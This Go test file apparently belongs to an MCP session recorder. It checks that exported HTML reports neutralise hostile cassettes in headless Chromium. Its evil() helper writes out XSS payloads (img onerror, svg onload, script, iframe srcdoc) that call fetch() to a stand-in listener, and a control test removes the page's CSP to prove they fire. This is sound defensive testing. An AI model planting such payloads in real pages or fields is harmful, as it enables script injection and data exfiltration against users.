package view_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/mcpvcr/mcpvcr/store"
	"github.com/mcpvcr/mcpvcr/view"
)

// listener is a server on 127.0.0.1 that counts the requests a page sends
// it: what a script injected into a report would reach.
type listener struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
	// hit is closed at the first request.
	hit  chan struct{}
	once sync.Once
}

func listen(t *testing.T) *listener {
	t.Helper()
	l := &listener{hit: make(chan struct{})}
	l.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		l.mu.Lock()
		l.hits = append(l.hits, r.Method+" "+r.URL.String())
		l.mu.Unlock()
		l.once.Do(func() { close(l.hit) })
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Private-Network", "true")
	}))
	t.Cleanup(l.Close)
	return l
}

func (l *listener) got() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.hits...)
}

// evil is markup that, were it put in the page as HTML, would run script:
// set window.pwned and the title, and send a request to the listener
// naming where it came from.
func evil(url, field string) string {
	js := fmt.Sprintf("window.pwned=(window.pwned||[]).concat(['%[2]s']);document.title='pwned %[2]s';fetch('%[1]s/%[2]s')", url, field)
	return `<img src=x onerror="` + js + `"><svg onload="` + js + `"></svg><script>` + js + `</script>` +
		`<iframe srcdoc="<script>parent.` + js + `</script>"></iframe>'"x`
}

// hostileJSONL is a committed cassette's export with markup in every
// field a stranger could fill that reaches the report: the session's
// name, note, upstream, session id, labels (keys and values), client and
// server info; each stream's URL, error, Last-Event-ID and headers (names
// and values); frames whose method, id, tool name, SSE event and id,
// and bytes are markup, a malformed body, and stderr lines; a task whose
// id, tool and states are markup.
func hostileJSONL(t *testing.T, name, url string) []byte {
	t.Helper()
	in, err := os.ReadFile(filepath.Join("..", "cassettes", name))
	if err != nil {
		t.Fatal(err)
	}
	x := func(field string) string { return evil(url, field) }
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	var maxSeq, maxOff float64
	var lastStream, stderr float64
	sc := bufio.NewScanner(bytes.NewReader(in))
	sc.Buffer(nil, 1<<24)
	for sc.Scan() {
		var rec map[string]any
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatal(err)
		}
		switch rec["type"] {
		case "session":
			rec["name"] = x("name")
			rec["note"] = x("note")
			rec["upstream"] = x("upstream")
			rec["external_id"] = x("external_id")
			rec["labels"] = map[string]string{x("labelkey"): x("labelvalue"), "mcpvcr.noise": x("noise"), "k": x("labelvalue2")}
			info, _ := json.Marshal(map[string]string{"name": x("infoname"), "version": x("infoversion"), "title": x("infotitle")})
			rec["client_info"], rec["server_info"] = string(info), string(info)
		case "stream":
			lastStream = rec["id"].(float64)
			if rec["kind"] == "stderr" {
				stderr = lastStream
			}
			if rec["url"] != nil {
				rec["url"] = "/mcp?" + x("url")
			}
			rec["err"] = x("streamerr")
			if rec["kind"] == "get" {
				rec["last_event_id"] = x("lasteventid")
			}
			rec["request_header"] = map[string][]string{"X-Evil": {x("reqheadervalue")}, x("reqheadername"): {"v"}}
			rec["response_header"] = map[string][]string{"Content-Type": {"text/event-stream; " + x("ct")}, x("respheadername"): {x("respheadervalue")}}
		case "frame":
			maxSeq = max(maxSeq, rec["seq"].(float64))
			maxOff = max(maxOff, rec["offset_ns"].(float64))
			if raw, ok := rec["raw"].(string); ok && rec["seq"].(float64) == 1 {
				rec["raw"] = strings.Replace(raw, `"id":1,"method":"initialize"`, `"id":1,"method":"initialize","x":"`+jsonEscape(x("payload"))+`"`, 1)
			}
			if raw, ok := rec["raw"].(string); ok && strings.HasPrefix(raw, "event: message\nid: ") {
				rec["raw"] = strings.Replace(raw, "event: message\nid: ", "event: "+x("sseevent")+"\nid: "+x("sseid"), 1)
			}
		}
		if err := enc.Encode(rec); err != nil {
			t.Fatal(err)
		}
	}
	frame := func(stream float64, dir, raw string) {
		maxSeq++
		maxOff++
		enc.Encode(map[string]any{"type": "frame", "session": 1, "seq": maxSeq, "stream": stream, "dir": dir, "offset_ns": maxOff, "raw": raw})
	}
	call, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": x("rpcid"), "method": x("method"),
		"params": map[string]any{"name": x("toolname"), "arguments": map[string]string{x("argkey"): x("argvalue")}}})
	frame(lastStream, "c2s", string(call)+"\n")
	note, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "method": "tools/call", "params": map[string]any{"name": x("toolname2"), "uri": x("uri")}})
	frame(lastStream, "c2s", string(note)+"\n")
	frame(lastStream, "s2c", x("malformed")+"\n")
	task := func(dir string, v map[string]any) {
		v["jsonrpc"] = "2.0"
		b, _ := json.Marshal(v)
		frame(lastStream, dir, string(b)+"\n")
	}
	task("c2s", map[string]any{"id": "t1", "method": "tools/call", "params": map[string]any{"name": x("tasktool"), "task": map[string]any{}}})
	task("s2c", map[string]any{"id": "t1", "result": map[string]any{"task": map[string]any{"taskId": x("taskid"), "status": x("taskstatus")}}})
	task("c2s", map[string]any{"id": "t2", "method": "tasks/get", "params": map[string]any{"taskId": x("taskid")}})
	task("s2c", map[string]any{"id": "t2", "result": map[string]any{"taskId": x("taskid"), "status": x("taskstatus2")}})
	task("s2c", map[string]any{"method": "notifications/tasks/status", "params": map[string]any{"taskId": x("taskid"), "status": x("taskstatus3")}})
	if stderr != 0 {
		frame(stderr, "s2c", x("stderr")+"\n")
	}
	return out.Bytes()
}

func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

// hostileReport imports the hostile version of each named cassette and
// exports the sessions as one HTML report; it returns the report's path.
func hostileReport(t *testing.T, url string, names ...string) string {
	t.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "hostile.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var ids []int64
	for _, name := range names {
		got, err := db.Import(ctx, bytes.NewReader(hostileJSONL(t, name, url)))
		if err != nil {
			t.Fatalf("import hostile %s: %v", name, err)
		}
		ids = append(ids, got...)
	}
	var buf bytes.Buffer
	if err := view.ExportHTML(ctx, db, &buf, ids...); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "report.html")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// load opens the file in the tab and waits for the report to say it has
// drawn (data-ready), or for the page's own time to run out.
func load(t *testing.T, ctx context.Context, path string) string {
	t.Helper()
	do(t, ctx, "load "+path, chromedp.Navigate("file://"+path))
	return eval[string](t, ctx, `new Promise(done => {
		const t0 = Date.now();
		const check = () => document.body && document.body.dataset.ready ? done('ready') : Date.now() - t0 > 5000 ? done('not ready') : setTimeout(check, 5);
		check();
	})`)
}

// TestHTML_BrowserHostile (issue #48): reports of cassettes from a
// stranger, with markup in every field that reaches the page, loaded in
// headless Chromium; then every tab, row, stream and frame is opened. No
// script of theirs runs: nothing reaches a listener on 127.0.0.1, the
// title is the report's, no element of theirs is in the DOM, and their
// markup is on the page as text. The page carries its CSP.
func TestHTML_BrowserHostile(t *testing.T) {
	l := listen(t)
	path := hostileReport(t, l.URL, "gosdk-http-2025-11-25.jsonl", "gosdk-stdio-2025-11-25.jsonl")
	ctx := browse(t)
	if got := load(t, ctx, path); got != "ready" {
		t.Fatalf("the hostile report did not draw: %s", got)
	}
	// The task is drawn, its markup as text.
	head := eval[string](t, ctx, `(document.querySelector('#rows .row.tkh')||{}).textContent||''`)
	for _, field := range []string{"tasktool", "taskid", "taskstatus", "taskstatus2", "taskstatus3"} {
		if want := `<img src=x onerror="window.pwned=(window.pwned||[]).concat(['` + field + `'])`; !strings.Contains(head, want) {
			t.Errorf("the task's row %q lacks the %s markup, shown as text", head, field)
		}
	}
	// Open everything: each session's tab, each row (a frame or a
	// stream's opening or end), and each link in the detail pane.
	opened := eval[float64](t, ctx, `(async () => {
		const pause = () => new Promise(r => setTimeout(r, 0));
		let n = 0;
		const tabs = document.querySelectorAll('#tabs button');
		for (let i = 0; i < Math.max(1, tabs.length); i++) {
			if (tabs.length) { document.querySelectorAll('#tabs button')[i].click(); await pause(); }
			for (const row of Array.from(document.querySelectorAll('#rows .row'))) {
				row.click(); n++; await pause();
				for (const a of Array.from(document.querySelectorAll('#detail a[data-st], #detail a[data-task]'))) { a.click(); await pause(); }
			}
		}
		await new Promise(r => setTimeout(r, 500));
		return n;
	})()`)
	if opened < 20 {
		t.Fatalf("opened %v rows; want every row of both sessions", opened)
	}
	if hits := l.got(); len(hits) > 0 {
		t.Errorf("the report sent %d requests to 127.0.0.1: %q", len(hits), hits)
	}
	if pwned := eval[string](t, ctx, `JSON.stringify(window.pwned || null)`); pwned != "null" {
		t.Errorf("script from the cassette ran, from fields %s", pwned)
	}
	if title := eval[string](t, ctx, `document.title`); !strings.HasPrefix(title, "mcpvcr session 1 <img src=x") {
		t.Errorf("document.title = %q", title)
	}
	// No element of the cassette's is in the page: the report has no
	// img, svg, iframe, and only its own two scripts.
	if n := eval[float64](t, ctx, `document.querySelectorAll('img, svg, iframe, object, embed').length`); n != 0 {
		t.Errorf("%v elements from the cassette's markup are in the DOM", n)
	}
	if n := eval[float64](t, ctx, `document.scripts.length`); n != 2 {
		t.Errorf("%v scripts in the DOM; want the report's 2", n)
	}
	// Their markup shows as text, where it is shown: the metadata list
	// (label keys and values, upstream, note), the method filter.
	meta := eval[string](t, ctx, `document.getElementById('meta').textContent + document.getElementById('method').textContent`)
	for _, field := range []string{"labelkey", "labelvalue", "upstream", "note", "method"} {
		if want := `<img src=x onerror="window.pwned=(window.pwned||[]).concat(['` + field + `'])`; !strings.Contains(meta, want) {
			t.Errorf("the page's text lacks the %s markup, shown as text", field)
		}
	}
	csp := eval[string](t, ctx, `(document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || ''`)
	if csp != view.ReportCSP {
		t.Errorf("CSP meta = %q; want %q", csp, view.ReportCSP)
	}
	screenshot(t, ctx, "hostile.png")
}

// TestHTML_BrowserCSP: markup put into the report as HTML, past every
// escape, runs no script and reaches no listener, because of the
// report's Content-Security-Policy; without that policy, the same page
// reaches the listener (so that the listener would have seen it).
func TestHTML_BrowserCSP(t *testing.T) {
	l := listen(t)
	var buf bytes.Buffer
	if err := view.WriteHTML(&buf, view.Page{Sessions: []*store.Recording{synthetic(20)}}); err != nil {
		t.Fatal(err)
	}
	page := strings.Replace(buf.String(), "<body>", "<body>"+evil(l.URL, "injected")+
		`<link rel="stylesheet" href="`+l.URL+`/css"><form action="`+l.URL+`/form"></form>`, 1)
	ctx := browse(t)
	write := func(name, html string) string {
		path := filepath.Join(t.TempDir(), name)
		if err := os.WriteFile(path, []byte(html), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	if got := load(t, ctx, write("csp.html", page)); got != "ready" {
		t.Fatalf("the report with its CSP did not draw: %s", got)
	}
	// A delay under test, not a synchronisation: the page is given this
	// long to send what it would; that nothing arrives has no event to
	// wait on. The control below shows the page does send one without
	// the policy.
	time.Sleep(500 * time.Millisecond)
	if hits := l.got(); len(hits) > 0 {
		t.Errorf("under the CSP the page sent %d requests: %q", len(hits), hits)
	}
	if pwned := eval[string](t, ctx, `JSON.stringify(window.pwned || null)`); pwned != "null" {
		t.Errorf("under the CSP injected script ran: %s", pwned)
	}
	// The control: without the policy, the listener hears from the page.
	bare := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`).ReplaceAllString(page, "")
	if bare == page {
		t.Fatal("the report has no CSP meta")
	}
	load(t, ctx, write("bare.html", bare))
	select {
	case <-l.hit:
	case <-time.After(10 * time.Second):
		t.Fatal("without the CSP the injected script reached no listener either: the test proves nothing")
	}
}
